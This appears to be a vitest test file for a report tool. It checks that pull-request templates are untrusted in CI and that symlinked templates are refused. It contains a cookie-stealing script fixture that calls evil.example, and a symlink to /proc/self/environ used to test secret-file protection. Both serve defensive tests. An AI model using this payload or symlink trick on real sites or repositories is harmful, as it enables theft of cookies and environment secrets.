/**
 * templates/ arrives in pull requests (issue 14, finding 3): in CI it is not
 * used unless trusted from outside the pull request's reach, and links in it
 * are refused everywhere.
 */
import {readFile, symlink, mkdir} from 'node:fs/promises'
import path from 'node:path'
import {describe, expect, it} from 'vitest'
import {build, check} from '../../src/index.js'
import {templatesTrusted} from '../../src/load/templates.js'
import {project, runCli} from '../helpers.js'

const evil = '<!doctype html><html><head><title>x</title></head><body><script>fetch("https://evil.example/?" + document.cookie)</script>{{title}}</body></html>'

describe('template trust', () => {
  it('is on locally, off in CI, and settable only from outside the repository', () => {
    expect(templatesTrusted(undefined, {})).toBe(true)
    expect(templatesTrusted(undefined, {CI: 'true'})).toBe(false)
    expect(templatesTrusted(undefined, {CI: '1'})).toBe(false)
    expect(templatesTrusted(undefined, {CI: 'false'})).toBe(true)
    expect(templatesTrusted(undefined, {CI: 'true', SCORECARD_TRUST_TEMPLATES: '1'})).toBe(true)
    expect(templatesTrusted(undefined, {SCORECARD_TRUST_TEMPLATES: '0'})).toBe(false)
    expect(templatesTrusted(true, {CI: 'true'})).toBe(true)
    expect(templatesTrusted(false, {})).toBe(false)
  })

  it('in CI a layout override that drops the CSP and adds script is ignored, with a warning', async () => {
    const dir = await project('minimal', [{file: 'templates/layouts/report.hbs', write: evil}])
    const result = await runCli(['build', '--format', 'html'], dir, {CI: 'true', SCORECARD_TRUST_TEMPLATES: ''})
    expect(result.code).toBe(0)
    expect(result.stderr).toContain('warning templates/ was not used')
    const html = await readFile(path.join(dir, 'out', 'report.html'), 'utf8')
    expect(html).not.toContain('evil.example')
    expect(html).toContain("script-src 'none'")
  })

  it('--trust-templates (or SCORECARD_TRUST_TEMPLATES=1) uses them in CI', async () => {
    const dir = await project('minimal', [{file: 'templates/partials/badge.hbs', write: '<span class="status custom-badge">{{label}}</span>'}])
    expect((await runCli(['build', '--format', 'html', '--trust-templates'], dir, {CI: 'true'})).code).toBe(0)
    expect(await readFile(path.join(dir, 'out', 'report.html'), 'utf8')).toContain('custom-badge')
    const other = await project('minimal', [{file: 'templates/partials/badge.hbs', write: '<span class="status custom-badge">{{label}}</span>'}])
    const result = await runCli(['build', '--format', 'html'], other, {CI: 'true', SCORECARD_TRUST_TEMPLATES: '1'})
    expect(result.stderr).not.toContain('templates/ was not used')
    expect(await readFile(path.join(other, 'out', 'report.html'), 'utf8')).toContain('custom-badge')
  })

  it('a template linked to /proc/self/environ is an error naming the file, trusted or not, and never read', async () => {
    const dir = await project('minimal')
    await mkdir(path.join(dir, 'templates', 'styles'), {recursive: true})
    await symlink('/proc/self/environ', path.join(dir, 'templates', 'styles', 'print.css'))
    const checked = await check(dir, {cwd: dir})
    expect(checked.ok).toBe(false)
    expect(checked.files.flatMap((f) => f.messages.map((m) => `${m.file}:${m.line}:${m.column} ${m.ruleId}`))).toEqual(['templates/styles/print.css:1:1 path-outside-project'])
    const built = await build(dir, {cwd: dir, trustTemplates: true})
    expect(built.ok).toBe(false)
    expect(built.written).toEqual([])
  })

  it('a link inside the project is refused too (templates are read as they stand)', async () => {
    const dir = await project('minimal', [{file: 'notes/print.css', write: 'body{}'}])
    await mkdir(path.join(dir, 'templates', 'styles'), {recursive: true})
    await symlink(path.join(dir, 'notes', 'print.css'), path.join(dir, 'templates', 'styles', 'print.css'))
    const checked = await check(dir, {cwd: dir})
    expect(checked.files.flatMap((f) => f.messages.map((m) => `${m.file} ${m.ruleId}`))).toEqual(['templates/styles/print.css not-a-regular-file'])
  })
})
